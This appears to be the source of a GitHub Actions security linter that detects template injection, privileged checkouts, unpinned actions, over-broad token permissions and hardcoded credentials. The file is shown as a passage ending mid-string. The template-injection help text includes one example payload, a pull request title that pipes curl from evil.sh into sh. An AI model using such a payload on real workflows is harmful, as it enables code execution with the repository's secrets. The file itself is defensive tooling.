/* gha_security.c — the workflow security checks users know from zizmor and actionlint: code
 * injection through expressions, untrusted checkouts on privileged triggers, unpinned actions,
 * token permissions, AWS credentials, secrets written into the file. */
#include <ctype.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>

#include "gha_util.h"
#include "infralint/arena.h"
#include "infralint/strbuf.h"
#include "infralint/util.h"
#include "rules.h"

/* ---- gha/template-injection ---- */

struct inject {
    struct rule_ctx *ctx;
    const struct workflow *wf;
    const struct wf_job *job;
    const struct wf_step *step;
    const char *found;   /* the first attacker-controlled context */
    const char *via_env; /* the env var it came through, or NULL */
    int input;           /* found is a workflow_dispatch input (someone with write access) */
    int depth;
    struct arena *a; /* parsed expressions, for the whole check */
};

static int untrusted_path(struct inject *in, const char *path)
{
    size_t n;
    const char *const *pats = rule_opt_list(in->ctx, "untrusted_contexts", &n);
    for (size_t i = 0; i < n; i++)
        if (wfx_path_match(pats[i], path))
            return 1;
    const char *name = NULL;
    if (!strncasecmp(path, "inputs.", 7))
        name = path + 7;
    else if (!strncasecmp(path, "github.event.inputs.", 20))
        name = path + 20;
    if (name && rule_opt_bool(in->ctx, "dispatch_inputs")) {
        /* free text typed into the "Run workflow" form (choices, booleans, numbers are safe) */
        const struct wf_trigger *t = wf_trigger_by_event(in->wf, "workflow_dispatch");
        for (size_t i = 0; t && i < t->ninputs; i++)
            if (!strcasecmp(t->inputs[i].name, name))
                return (in->input = !strcmp(t->inputs[i].type, "string"));
    }
    return 0;
}

static void taint_scalar(struct inject *in, const char *s);

static void taint_ref(const struct wfx *ref, void *arg)
{
    struct inject *in = arg;
    if (in->found)
        return;
    if (untrusted_path(in, ref->path)) {
        in->found = ref->path;
        return;
    }
    if (strncasecmp(ref->path, "env.", 4) || strchr(ref->path + 4, '.') || in->depth)
        return;
    /* ${{ env.X }}: X set from an attacker-controlled context is as bad */
    const char *name = ref->path + 4;
    struct yref maps[3] = {in->step ? in->step->env : (struct yref){NULL, NULL},
                           in->job ? in->job->env : (struct yref){NULL, NULL}, in->wf->env};
    for (size_t i = 0; i < 3; i++) {
        const char *v = yref_str(yref_get(maps[i], name));
        if (!v)
            continue;
        in->depth++;
        taint_scalar(in, v);
        in->depth--;
        if (in->found && !in->via_env)
            in->via_env = name;
        return;
    }
}

static void taint_scalar(struct inject *in, const char *s)
{
    for (const char *p = s; (p = strstr(p, "${{")) && !in->found; p += 3) {
        const char *end = strstr(p + 3, "}}");
        if (!end)
            return;
        const char *err;
        struct wfx *x = wfx_parse(p + 3, (size_t)(end - p - 3), in->a, &err);
        if (x)
            wfx_value_refs(x, taint_ref, in);
    }
}

/* Report each `${{ }}` of node that expands an attacker-controlled value into code. */
static void check_code(struct inject *in, struct yref code, struct yref key, const char *what,
                       int js)
{
    const struct wf_expr *ex;
    size_t n = wf_exprs(in->wf, code.n, &ex);
    for (size_t i = 0; i < n; i++) {
        in->found = NULL;
        in->via_env = NULL;
        in->input = 0;
        if (ex[i].x)
            wfx_value_refs(ex[i].x, taint_ref, in);
        if (!in->found)
            continue;
        char *path = gha_path(in->job, in->step, js ? "with.script" : "run");
        unsigned kl = key.n ? key.n->line : 0;
        /* free text typed by someone with write access is a lesser risk than data from
         * anyone who can open an issue */
        enum severity sev = in->input ? SEV_WARNING : SEV_NONE;
        const char *who = in->input ? "free-text input" : "attacker-controlled";
        const char *t = ex[i].text;
        size_t tl = ex[i].len;
        while (tl && isspace((unsigned char)*t))
            t++, tl--;
        while (tl && isspace((unsigned char)t[tl - 1]))
            tl--;
        char *fix =
            in->via_env
                ? xstrfmt("the value is in the environment already: use %s%s%s instead "
                          "of ${{ env.%s }}",
                          js ? "process.env." : "\"$", in->via_env, js ? "" : "\"", in->via_env)
                : xstrfmt("pass it through env: (VALUE: ${{ %.*s }}) and use %s in the "
                          "script",
                          (int)tl, t, js ? "process.env.VALUE" : "\"$VALUE\"");
        if (in->via_env)
            gha_report_pos(in->ctx, sev, in->wf, ex[i].line, ex[i].col, kl, code.via, in->job->id,
                           path, fix,
                           "env '%s' holds %s '%s', and ${{ env.%s }} expands it into %s before "
                           "it runs (code injection)",
                           in->via_env, who, in->found, in->via_env, what);
        else
            gha_report_pos(in->ctx, sev, in->wf, ex[i].line, ex[i].col, kl, code.via, in->job->id,
                           path, fix, "%s '%s' is expanded into %s before it runs (code injection)",
                           who, in->found, what);
        free(fix);
        free(path);
    }
}

static void check_injection(struct rule_ctx *ctx, const struct subject *s)
{
    const struct workflow *wf = s->wf;
    struct arena *a = arena_new();
    for (size_t i = 0; i < wf->njobs; i++) {
        const struct wf_job *j = &wf->jobs[i];
        for (size_t k = 0; k < j->nsteps; k++) {
            const struct wf_step *st = &j->steps[k];
            struct inject in = {ctx, wf, j, st, NULL, NULL, 0, 0, a};
            if (st->run)
                check_code(&in, st->run_at, yref_key(st->node, "run"), "the run: script", 0);
            else if (gha_uses_is(st->uses, "actions/github-script"))
                check_code(&in, yref_get(st->with, "script"), yref_key(st->with, "script"),
                           "the github-script code", 1);
        }
    }
    arena_free(a);
}

/* ---- gha/dangerous-trigger ---- */

static const char *const head_refs[] = {"github.event.pull_request.head.sha",
                                        "github.event.pull_request.head.ref",
                                        "github.event.pull_request.head.repo.full_name",
                                        "github.head_ref",
                                        "github.event.pull_request.merge_commit_sha",
                                        "github.event.pull_request.number",
                                        "github.event.workflow_run.head_sha",
                                        "github.event.workflow_run.head_branch",
                                        "github.event.workflow_run.head_repository.full_name",
                                        "github.event.workflow_run.pull_requests.*.head.sha",
                                        "github.event.workflow_run.pull_requests.*.head.ref"};

static void head_ref(const struct wfx *ref, void *arg)
{
    const char **found = arg;
    for (size_t i = 0; i < ARRAY_SIZE(head_refs) && !*found; i++)
        if (wfx_path_match(head_refs[i], ref->path))
            *found = head_refs[i];
}

/* The head expression a value names ("github.event.pull_request.head.sha"), or NULL. */
static const char *names_head(const char *v, struct arena *a)
{
    const char *found = NULL;
    if (!v)
        return NULL;
    for (const char *p = v; (p = strstr(p, "${{")) && !found; p += 3) {
        const char *end = strstr(p + 3, "}}");
        if (!end)
            break;
        const char *err;
        struct wfx *x = wfx_parse(p + 3, (size_t)(end - p - 3), a, &err);
        wfx_refs(x, head_ref, &found);
    }
    if (!found && strstr(v, "refs/pull/"))
        found = "refs/pull/…";
    return found;
}

static int checkout_cmd(const char *run)
{
    return strstr(run, "gh pr checkout") || strstr(run, "git checkout") ||
           strstr(run, "git fetch") || strstr(run, "git switch") || strstr(run, "git pull");
}

/* The place in job j that checks out the untrusted head, or an empty ref. */
static struct yref head_checkout(const struct wf_job *j, const char **what, struct arena *a)
{
    struct yref none = {NULL, NULL};
    for (size_t k = 0; k < j->nsteps; k++) {
        const struct wf_step *st = &j->steps[k];
        if (gha_uses_is(st->uses, "actions/checkout")) {
            struct yref ref = yref_get(st->with, "ref"), repo = yref_get(st->with, "repository");
            if ((*what = names_head(yref_str(ref), a)))
                return ref;
            if ((*what = names_head(yref_str(repo), a)))
                return repo;
        } else if (st->run && checkout_cmd(st->run) && (*what = names_head(st->run, a))) {
            return st->run_at;
        } else if (st->run && strstr(st->run, "gh pr checkout")) {
            *what = "gh pr checkout";
            return st->run_at;
        }
    }
    return none;
}

static void check_dangerous(struct rule_ctx *ctx, const struct subject *s)
{
    const struct workflow *wf = s->wf;
    static const char *const events[] = {"pull_request_target", "workflow_run"};
    struct arena *a = arena_new();
    for (size_t e = 0; e < ARRAY_SIZE(events); e++) {
        const struct wf_trigger *t = wf_trigger_by_event(wf, events[e]);
        if (!t)
            continue;
        struct gha_scene sc[8];
        size_t nsc = gha_trigger_scenes(t, NULL, 0, sc, 8);
        unsigned char *hit = xcalloc(wf->njobs + 1, 1), *one = xcalloc(wf->njobs + 1, 1);
        for (size_t k = 0; k < nsc; k++) {
            gha_reachable_jobs(wf, &sc[k], one);
            for (size_t i = 0; i < wf->njobs; i++)
                hit[i] |= one[i];
        }
        for (size_t i = 0; i < wf->njobs; i++) {
            const struct wf_job *j = &wf->jobs[i];
            const char *what = NULL;
            struct yref at = hit[i] ? head_checkout(j, &what, a) : (struct yref){NULL, NULL};
            if (!at.n)
                continue;
            gha_report(ctx, wf, at, j->id, NULL,
                       "check out the base (the default), or move the work on untrusted code to "
                       "an unprivileged 'pull_request' workflow and pass results as artifacts",
                       "on '%s', job '%s' checks out untrusted code (%s): it then runs with the "
                       "base repository's secrets and a write token",
                       t->event, j->id, what);
        }
        free(hit);
        free(one);
    }
    arena_free(a);
}

/* ---- gha/unpinned-action ---- */

static int hex40(const char *s)
{
    size_t n = 0;
    while (isxdigit((unsigned char)s[n]))
        n++;
    return n == 40 && !s[n];
}

static void check_uses(struct rule_ctx *ctx, const struct workflow *wf, const struct wf_job *j,
                       const struct wf_step *st, struct yref at, const char *uses)
{
    if (wf_uses_local(uses) || wf_has_expr(uses))
        return;
    char *path = gha_path(j, st, "uses");
    if (starts_with(uses, "docker://")) {
        if (!strstr(uses, "@sha256:")) {
            const char *img = uses + 9, *slash = strrchr(img, '/'), *colon;
            colon = strchr(slash ? slash : img, ':');
            char *fix = xstrfmt("pin the image by digest: docker://%.*s@sha256:<digest>",
                                (int)(colon ? (size_t)(colon - img) : strlen(img)), img);
            gha_report(ctx, wf, at, j->id, path, fix,
                       "image '%s' is not pinned by digest: the tag can be moved to another "
                       "image",
                       img);
            free(fix);
        }
        free(path);
        return;
    }
    const char *at_sign = strrchr(uses, '@');
    if (!at_sign) { /* gha/syntax says it */
        free(path);
        return;
    }
    char name[256];
    snprintf(name, sizeof(name), "%.*s", (int)(at_sign - uses), uses);
    const char *ref = at_sign + 1;
    if (!hex40(ref) && !rule_opt_list_has(ctx, "trusted_actions", name, 1)) {
        size_t hex = strspn(ref, "0123456789abcdef");
        char *fix = xstrfmt("pin it: %s@<40-hex commit SHA> # %s", name, ref);
        if (hex >= 7 && !ref[hex])
            gha_report(ctx, wf, at, j->id, path, fix,
                       "'%s' names a short commit SHA: GitHub takes it as a branch or tag name, "
                       "which whoever can push to the repository can create",
                       uses);
        else
            gha_report(ctx, wf, at, j->id, path, fix,
                       "'%s' is not pinned to a commit: '%s' can be moved by whoever controls "
                       "the repository",
                       uses, ref);
        free(fix);
    }
    free(path);
}

static void check_unpinned(struct rule_ctx *ctx, const struct subject *s)
{
    const struct workflow *wf = s->wf;
    for (size_t i = 0; i < wf->njobs; i++) {
        const struct wf_job *j = &wf->jobs[i];
        if (j->uses)
            check_uses(ctx, wf, j, NULL, j->uses_at, j->uses);
        for (size_t k = 0; k < j->nsteps; k++)
            if (j->steps[k].uses)
                check_uses(ctx, wf, j, &j->steps[k], j->steps[k].uses_at, j->steps[k].uses);
    }
}

/* ---- gha/excessive-permissions ---- */

/* Actions known to need no write access nor an OIDC token. */
static const char *const harmless_actions[] = {"actions/checkout",
                                               "actions/setup-node",
                                               "actions/setup-python",
                                               "actions/setup-go",
                                               "actions/setup-java",
                                               "actions/setup-dotnet",
                                               "actions/cache",
                                               "actions/cache/restore",
                                               "actions/cache/save",
                                               "actions/upload-artifact",
                                               "actions/download-artifact",
                                               "docker/setup-buildx-action",
                                               "docker/setup-qemu-action",
                                               "docker/metadata-action",
                                               "hashicorp/setup-terraform",
                                               "dtolnay/rust-toolchain",
                                               "Swatinem/rust-cache",
                                               "astral-sh/setup-uv",
                                               "pnpm/action-setup",
                                               "ruby/setup-ruby",
                                               "actions-rs/toolchain",
                                               "oven-sh/setup-bun",
                                               "denoland/setup-deno",
                                               "gradle/actions/setup-gradle",
                                               "step-security/harden-runner"};

/* Words in a run script (or a with/env value) that show it may use the token or OIDC. */
static const char *const token_words[] = {"github_token",   "github.token", "actions_id_token",
                                          "api.github.com", "ghcr.io",      "token"};

static int mentions_token(const char *s)
{
    if (!s)
        return 0;
    for (size_t i = 0; i < ARRAY_SIZE(token_words); i++)
        if (strcasestr(s, token_words[i]))
            return 1;
    return 0;
}

static int map_mentions_token(struct yref m)
{
    for (size_t i = 0; yref_is_map(m) && i < m.n->npairs; i++)
        if (mentions_token(yref_str(yref_pair_value(m, i))))
            return 1;
    return 0;
}

/* Programs that cannot write to GitHub (nor request an OIDC token) on their own; for the
 * multi-purpose ones, the subcommands that cannot. Anything else (a script, make, npm run, git
 * push, a publisher) might. */
static const char *const quiet_programs[] = {
    "echo",       "printf", "cat",       "ls",     "pwd",      "cd",   "mkdir", "cp",
    "mv",         "rm",     "rmdir",     "touch",  "chmod",    "tar",  "gzip",  "gunzip",
    "unzip",      "zip",    "sha256sum", "shasum", "md5sum",   "grep", "sed",   "awk",
    "head",       "tail",   "sort",      "uniq",   "wc",       "diff", "cmp",   "find",
    "test",       "[",      "true",      "false",  "export",   "set",  "unset", "sleep",
    "date",       "which",  "jq",        "yq",     "pytest",   "ruff", "black", "flake8",
    "mypy",       "pylint", "isort",     "eslint", "prettier", "tsc",  "gofmt", "golangci-lint",
    "shellcheck", "rustup", "rustc",     "ctest",  "cmake",    "tox",  "nox",   "if",
    "then",       "fi",     "else",      "for",    "do",       "done", "exit"};

static const char *const quiet_sub[][2] = {
    {"go", "build"},      {"go", "test"},      {"go", "vet"},       {"go", "mod"},
    {"go", "version"},    {"go", "env"},       {"go", "list"},      {"cargo", "build"},
    {"cargo", "test"},    {"cargo", "check"},  {"cargo", "clippy"}, {"cargo", "fmt"},
    {"cargo", "nextest"}, {"cargo", "doc"},    {"npm", "ci"},       {"npm", "install"},
    {"npm", "test"},      {"npm", "audit"},    {"yarn", "install"}, {"yarn", "test"},
    {"pnpm", "install"},  {"pnpm", "test"},    {"pip", "install"},  {"pip3", "install"},
    {"docker", "build"},  {"docker", "pull"},  {"git", "status"},   {"git", "diff"},
    {"git", "log"},       {"git", "config"},   {"git", "fetch"},    {"git", "checkout"},
    {"git", "rev-parse"}, {"git", "describe"}, {"git", "show"},     {"git", "ls-files"}};

static void quiet_command(char *const *w, size_t n, void *arg)
{
    int *quiet = arg;
    const char *prog = w[0];
    for (size_t i = 0; i < ARRAY_SIZE(quiet_programs); i++)
        if (!strcmp(prog, quiet_programs[i]))
            return;
    for (size_t i = 0; i < ARRAY_SIZE(quiet_sub) && n > 1; i++)
        if (!strcmp(prog, quiet_sub[i][0]) && !strcmp(w[1], quiet_sub[i][1]))
            return;
    *quiet = 0;
}

/* Is a run script made only of commands that cannot use the token? */
static int quiet_script(const char *run)
{
    int quiet = 1;
    if (mentions_token(run))
        return 0;
    gha_commands(run, quiet_command, &quiet);
    return quiet;
}

/* Can we be sure job j writes nothing with its token and requests no OIDC token? Only when every
 * step is a known setup/cache/artifact action or a script of known quiet commands. */
static int needs_no_write(const struct wf_job *j)
{
    if (j->uses || map_mentions_token(j->env))
        return 0;
    for (size_t k = 0; k < j->nsteps; k++) {
        const struct wf_step *st = &j->steps[k];
        if (map_mentions_token(st->env) || map_mentions_token(st->with))
            return 0;
        if (st->run && !quiet_script(st->run))
            return 0;
        if (st->uses) {
            int ok = 0;
            for (size_t i = 0; i < ARRAY_SIZE(harmless_actions) && !ok; i++)
                ok = gha_uses_is(st->uses, harmless_actions[i]);
            if (!ok)
                return 0;
        }
    }
    return j->nsteps > 0;
}

/* Is the job's permission set given by a callee (a reusable workflow that sets its own)? */
static int callee_sets_perms(const struct wf_job *j)
{
    const struct workflow *c = j->callee;
    if (!c)
        return 0;
    if (c->perms.form != PERMS_ABSENT)
        return 1;
    for (size_t i = 0; i < c->njobs; i++)
        if (c->jobs[i].perms.form == PERMS_ABSENT)
            return 0;
    return c->njobs > 0;
}

static void write_scopes(struct rule_ctx *ctx, const struct workflow *wf, const struct wf_perms *p,
                         const struct wf_job *only)
{
    for (size_t e = 0; p->form == PERMS_MAP && e < p->n; e++) {
        const struct wf_perm_entry *x = &p->v[e];
        if (x->level != PERM_WRITE)
            continue;
        struct strbuf idle = STRBUF_INIT;
        size_t nidle = 0, nusers = 0;
        for (size_t i = 0; i < wf->njobs; i++) {
            const struct wf_job *j = &wf->jobs[i];
            if ((only && j != only) || (!only && j->perms.form != PERMS_ABSENT))
                continue;
            nusers++;
            if (needs_no_write(j))
                strbuf_addf(&idle, "%s'%s'", nidle++ ? ", " : "", j->id);
        }
        if (nidle) {
            char *fix = xstrfmt("remove '%s: write'%s", x->scope,
                                only ? "" : ", and grant it on the jobs that need it");
            gha_report(ctx, wf, x->value, only ? only->id : NULL, NULL, fix,
                       "'%s: write' is granted to job%s %s, which never write%s with the "
                       "token",
                       x->scope, nidle > 1 ? "s" : "", idle.buf, nidle > 1 ? "" : "s");
            free(fix);
        }
        (void)nusers;
        strbuf_release(&idle);
    }
}

static void write_all(struct rule_ctx *ctx, const struct workflow *wf, const struct wf_perms *p,
                      const char *loc)
{
    if (p->form == PERMS_WRITE_ALL)
        gha_report(ctx, wf, p->value, loc, NULL,
                   "list only the scopes the jobs need (e.g. contents: read, "
                   "pull-requests: write)",
                   "'write-all' gives the token write access to every scope");
}

static void check_permissions(struct rule_ctx *ctx, const struct subject *s)
{
    const struct workflow *wf = s->wf;
    write_all(ctx, wf, &wf->perms, NULL);
    write_scopes(ctx, wf, &wf->perms, NULL);
    for (size_t i = 0; i < wf->njobs; i++) {
        const struct wf_job *j = &wf->jobs[i];
        write_all(ctx, wf, &j->perms, j->id);
        write_scopes(ctx, wf, &j->perms, j);
        if (gha_job_perms(wf, j) || gha_only_called(wf) || callee_sets_perms(j))
            continue;
        if (j->uses && !j->callee && !wf_uses_local(j->uses)) {
            gha_unverifiable(ctx, wf, j->uses_at, j->id,
                             "set 'permissions:' on this job: the called workflow gets no more",
                             "job '%s' calls a reusable workflow of another repository with the "
                             "default token permissions: infralint cannot read it, so its "
                             "permissions, environments and tests are not checked",
                             j->id);
            continue;
        }
        gha_report(ctx, wf, j->key, j->id, NULL,
                   "add 'permissions:' with what it needs (e.g. 'contents: read'), on the job "
                   "or at the top of the workflow",
                   "job '%s' runs with the repository's default token permissions (no "
                   "'permissions:' here or at the top), which can be write access to everything",
                   j->id);
    }
}

/* ---- gha/aws-static-credentials, gha/oidc-permission ---- */

static int aws_creds(const struct wf_step *st)
{
    return gha_uses_is(st->uses, "aws-actions/configure-aws-credentials");
}

static void check_aws_static(struct rule_ctx *ctx, const struct subject *s)
{
    const struct workflow *wf = s->wf;
    for (size_t i = 0; i < wf->njobs; i++) {
        const struct wf_job *j = &wf->jobs[i];
        for (size_t k = 0; k < j->nsteps; k++) {
            const struct wf_step *st = &j->steps[k];
            struct yref key = yref_key(st->with, "aws-access-key-id");
            if (!aws_creds(st) || !key.n)
                continue;
            char *path = gha_path(j, st, "with.aws-access-key-id");
            gha_report(ctx, wf, key, j->id, path,
                       "use 'role-to-assume:' with OIDC ('permissions: id-token: write') and "
                       "delete the access key",
                       "configure-aws-credentials is given a long-lived access key%s: it works "
                       "until someone leaks it, and never expires",
                       yref_key(st->with, "role-to-assume").n ? " (to assume the role with)"
                                                              : " instead of role-to-assume");
            free(path);
        }
    }
}

/* Permissions in effect for job j of wf when it runs: inside a reusable workflow, its caller's. */
static int id_token_granted(const struct workflow *wf, const struct wf_job *j, int *known)
{
    *known = 1;
    const struct wf_perms *p = gha_job_perms(wf, j);
    if (p)
        return wf_perms_level(p, "id-token") == PERM_WRITE || p->form == PERMS_OTHER;
    if (!gha_only_called(wf))
        return 0; /* the repository default never includes id-token */
    int any = 0, all = 1;
    for (size_t i = 0; wf->set && i < wf->set->n; i++) {
        const struct workflow *c = wf->set->v[i];
        for (size_t k = 0; k < c->njobs; k++) {
            const struct wf_job *cj = &c->jobs[k];
            if (cj->callee != wf)
                continue;
            any = 1;
            const struct wf_perms *cp = gha_job_perms(c, cj);
            if (!cp || (wf_perms_level(cp, "id-token") != PERM_WRITE && cp->form != PERMS_OTHER))
                all = 0;
        }
    }
    *known = any;
    return all;
}

static void check_oidc(struct rule_ctx *ctx, const struct subject *s)
{
    const struct workflow *wf = s->wf;
    for (size_t i = 0; i < wf->njobs; i++) {
        const struct wf_job *j = &wf->jobs[i];
        const struct wf_step *assume = NULL;
        for (size_t k = 0; k < j->nsteps && !assume; k++) {
            const struct wf_step *st = &j->steps[k];
            if (aws_creds(st) && yref_key(st->with, "role-to-assume").n &&
                !yref_key(st->with, "aws-access-key-id").n &&
                !yref_key(st->with, "web-identity-token-file").n)
                assume = st;
        }
        int known;
        if (!assume || id_token_granted(wf, j, &known) || !known)
            continue;
        struct yref at = j->perms.form != PERMS_ABSENT    ? j->perms.key
                         : wf->perms.form != PERMS_ABSENT ? wf->perms.key
                                                          : j->key;
        gha_report(ctx, wf, at, j->id, NULL,
                   "add 'permissions: {id-token: write, contents: read}' to the job",
                   "job '%s' assumes an AWS role (role-to-assume) but its token has no "
                   "'id-token: write': the OIDC token request fails when it runs",
                   j->id);
        char *path = gha_path(j, assume, "with.role-to-assume");
        struct anchor rel = {wf->file,
                             yref_line(yref_key(assume->with, "role-to-assume")),
                             yref_col(yref_key(assume->with, "role-to-assume")),
                             0,
                             j->id,
                             path};
        rule_related(ctx, &rel, "the role is assumed here");
        free(path);
    }
    /* id-token: write for every job of a workflow that runs untrusted code */
    const struct wf_perm_entry *e = wf_perms_entry(&wf->perms, "id-token");
    if (!e || e->level != PERM_WRITE)
        return;
    static const char *const events[] = {"pull_request_target", "workflow_run", "issue_comment"};
    struct arena *a = arena_new();
    int said = 0;
    for (size_t k = 0; k < ARRAY_SIZE(events) && !said; k++) {
        if (!wf_trigger_by_event(wf, events[k]))
            continue;
        for (size_t i = 0; i < wf->njobs && !said; i++) {
            const char *what;
            if (!head_checkout(&wf->jobs[i], &what, a).n)
                continue;
            gha_report(ctx, wf, e->key, NULL, NULL,
                       "grant 'id-token: write' only on the job that deploys",
                       "'id-token: write' is granted to the whole workflow, which runs untrusted "
                       "code on '%s' (job '%s'): that code can request cloud credentials",
                       events[k], wf->jobs[i].id);
            said = 1;
        }
    }
    arena_free(a);
}

/* ---- gha/persist-credentials, gha/secrets-inherit ---- */

static void check_persist(struct rule_ctx *ctx, const struct subject *s)
{
    const struct workflow *wf = s->wf;
    for (size_t i = 0; i < wf->njobs; i++) {
        const struct wf_job *j = &wf->jobs[i];
        for (size_t k = 0; k < j->nsteps; k++) {
            const struct wf_step *st = &j->steps[k];
            if (!gha_uses_is(st->uses, "actions/checkout"))
                continue;
            struct yref pc = yref_get(st->with, "persist-credentials");
            int b;
            if (pc.n && ((ynode_bool(pc.n, &b) == 0 && !b) ||
                         (yref_str(pc) && (!strcmp(pc.n->str, "false") || wf_has_expr(pc.n->str)))))
                continue;
            char *path = gha_path(j, st, "uses");
            gha_report(ctx, wf, st->uses_at, j->id, path,
                       "add 'with: {persist-credentials: false}' (steps that push can pass the "
                       "token explicitly)",
                       "actions/checkout leaves the token in .git/config for every later step "
                       "(and any artifact of the workspace)");
            free(path);
        }
    }
}

static void check_inherit(struct rule_ctx *ctx, const struct subject *s)
{
    const struct workflow *wf = s->wf;
    for (size_t i = 0; i < wf->njobs; i++) {
        const struct wf_job *j = &wf->jobs[i];
        const char *v = yref_str(j->secrets);
        if (j->uses && v && !strcmp(v, "inherit"))
            gha_report(ctx, wf, j->secrets, j->id, NULL,
                       "pass only the secrets it uses: 'secrets: {DEPLOY_KEY: "
                       "${{ secrets.DEPLOY_KEY }}}'",
                       "job '%s' hands every secret of the repository to '%s' "
                       "('secrets: inherit')",
                       j->id, j->uses);
    }
}

/* ---- gha/hardcoded-credential ---- */

/* Is s a literal of a service container's env (the throwaway password of a test database, which
 * the job's env repeats to reach it)? */
static int service_literal(const struct wf_job *j, const char *s)
{
    for (size_t k = 0; j && yref_is_map(j->services) && k < j->services.n->npairs; k++) {
        struct yref env = yref_get(yref_pair_value(j->services, k), "env");
        for (size_t i = 0; yref_is_map(env) && i < env.n->npairs; i++) {
            const char *v = yref_str(yref_pair_value(env, i));
            if (v && !strcmp(v, s))
                return 1;
        }
    }
    return 0;
}

static void literal_creds(struct rule_ctx *ctx, const struct workflow *wf, struct yref map,
                          const char *where, const struct wf_job *j)
{
    const char *loc = j ? j->id : NULL;
    for (size_t i = 0; yref_is_map(map) && i < map.n->npairs; i++) {
        struct yref k = yref_pair_key(map, i), v = yref_pair_value(map, i);
        const char *ks = yref_str(k), *vs = yref_str(v);
        int b;
        if (!ks || !vs || !*vs || ynode_is_null(v.n) || wf_has_expr(vs) || vs[0] == '$' ||
            ynode_bool(v.n, &b) == 0 || !wf_is_credential_key(ks) || service_literal(j, vs))
            continue;
        gha_report(ctx, wf, v, loc, NULL,
                   "store it as a repository or environment secret and write "
                   "'${{ secrets.NAME }}'",
                   "'%s' in %s is a literal credential: anyone who can read the repository "
                   "can read it",
                   ks, where);
    }
}

static void check_hardcoded(struct rule_ctx *ctx, const struct subject *s)
{
    const struct workflow *wf = s->wf;
    literal_creds(ctx, wf, wf->env, "the workflow's env:", NULL);
    for (size_t i = 0; i < wf->njobs; i++) {
        const struct wf_job *j = &wf->jobs[i];
        literal_creds(ctx, wf, j->env, "the job's env:", j);
        literal_creds(ctx, wf, j->with, "the reusable workflow's with:", j);
        literal_creds(ctx, wf, yref_get(j->container, "credentials"),
                      "the container's credentials:", j);
        for (size_t k = 0; yref_is_map(j->services) && k < j->services.n->npairs; k++)
            literal_creds(ctx, wf, yref_get(yref_pair_value(j->services, k), "credentials"),
                          "a service's credentials:", j);
        for (size_t k = 0; k < j->nsteps; k++) {
            literal_creds(ctx, wf, j->steps[k].env, "a step's env:", j);
            literal_creds(ctx, wf, j->steps[k].with, "a step's with:", j);
        }
    }
}

/* ---- the table ---- */

static const struct rule_option injection_options[] = {
    {"untrusted_contexts", OPT_STRLIST,
     "github.head_ref,github.event.issue.title,github.event.issue.body,"
     "github.event.pull_request.title,github.event.pull_request.body,"
     "github.event.pull_request.head.ref,github.event.pull_request.head.label,"
     "github.event.pull_request.head.repo.default_branch,"
     "github.event.pull_request.head.repo.description,github.event.pull_request.head.repo.homepage,"
     "github.event.comment.body,github.event.review.body,github.event.review_comment.body,"
     "github.event.discussion.title,github.event.discussion.body,github.event.pages.*.page_name,"
     "github.event.commits.*.message,github.event.commits.*.author.name,"
     "github.event.commits.*.author.email,github.event.commits.*.committer.name,"
     "github.event.commits.*.committer.email,github.event.head_commit.message,"
     "github.event.head_commit.author.name,github.event.head_commit.author.email,"
     "github.event.head_commit.committer.name,github.event.head_commit.committer.email,"
     "github.event.workflow_run.head_branch,github.event.workflow_run.display_title,"
     "github.event.workflow_run.head_commit.message,"
     "github.event.workflow_run.head_commit.author.name,"
     "github.event.workflow_run.head_commit.author.email,"
     "github.event.workflow_run.head_repository.description,"
     "github.event.workflow_run.pull_requests.*.head.ref,"
     "github.event.merge_group.head_commit.message,"
     "github.event.merge_group.head_commit.author.name,"
     "github.event.merge_group.head_commit.author.email,github.event.changes.**",
     "context paths an attacker controls ('*' is one segment, a final '**' any rest)"},
    {"dispatch_inputs", OPT_BOOL, "true",
     "treat free-text workflow_dispatch inputs as untrusted (anyone with write access types them)"},
    {0},
};

static const struct rule_option pin_options[] = {
    {"trusted_actions", OPT_STRLIST, "actions/*,github/*",
     "actions (owner/repo globs) that may use a tag; empty: pin everything (the top-level "
     "`trusted_actions` of .infralint.yaml sets this too)"},
    {0},
};

const struct rule gha_security_rules[] = {
    {
        .id = "gha/template-injection",
        .title = "Attacker-controlled values are never pasted into scripts",
        .severity = SEV_ERROR,
        .kinds = KIND_WORKFLOW,
        .scope = SCOPE_ALL,
        .persona = PERSONA_REGULAR,
        .origin = "zizmor template-injection; actionlint expression",
        .options = injection_options,
        .check = check_injection,
        .help = "`${{ … }}` is replaced by its value before the shell (or `actions/github-script`) "
                "sees the script, so a pull request titled `\"; curl evil.sh | sh; #` runs "
                "code with the workflow's token and secrets. Reported, at the exact line and "
                "column of the `${{`, for values an attacker controls (`untrusted_contexts`: "
                "issue and pull request titles and bodies, comments, head branch names, commit "
                "messages and authors, free-text `workflow_dispatch` inputs) — also when they "
                "pass through `env.X` — in `run:` and in github-script's `script:`. Never for "
                "SHAs, numbers, booleans, step outcomes, comparisons, or `a && 'x' || 'y'` of "
                "literals. Free-text `workflow_dispatch` inputs, which only people with write "
                "access can type, are warnings (the `dispatch_inputs` option turns them off). "
                "Setting the value in `env:` and using `\"$NAME\"` is safe.\n\n"
                "Fix: `env: {TITLE: ${{ github.event.issue.title }}}` on the step and "
                "`\"$TITLE\"` in the script.",
    },
    {
        .id = "gha/dangerous-trigger",
        .title = "Privileged triggers do not run untrusted code",
        .severity = SEV_ERROR,
        .kinds = KIND_WORKFLOW,
        .scope = SCOPE_ALL,
        .persona = PERSONA_REGULAR,
        .origin = "zizmor dangerous-triggers",
        .check = check_dangerous,
        .help = "`pull_request_target` and `workflow_run` run with the base repository's "
                "secrets and a write token, even for a pull request from a fork. Checking out "
                "the pull request's head there (`ref: ${{ github.event.pull_request.head.sha }}`, "
                "`github.head_ref`, `refs/pull/…`, `gh pr checkout`, the `workflow_run` head) "
                "and then building or testing it runs the attacker's code with those secrets. "
                "Reported at the checkout, for jobs the trigger can reach.\n\n"
                "Fix: use `pull_request` for anything that runs the pull request's code; keep "
                "`pull_request_target` for labelling and commenting, without a checkout of the "
                "head.",
    },
    {
        .id = "gha/unpinned-action",
        .title = "Third-party actions are pinned to a commit",
        .severity = SEV_WARNING,
        .kinds = KIND_WORKFLOW,
        .scope = SCOPE_ALL,
        .persona = PERSONA_REGULAR,
        .origin = "zizmor unpinned-uses",
        .options = pin_options,
        .check = check_unpinned,
        .help = "A tag or branch (`@v4`, `@main`) can be moved to other code by whoever controls "
                "the action's repository — the tj-actions/changed-files compromise did that to "
                "thousands of workflows. `uses:` must name a full 40-hex commit SHA, except for "
                "owners in `trusted_actions` (by default `actions/*` and `github/*`, as "
                "zizmor's default policy; an empty list pins everything). Local actions "
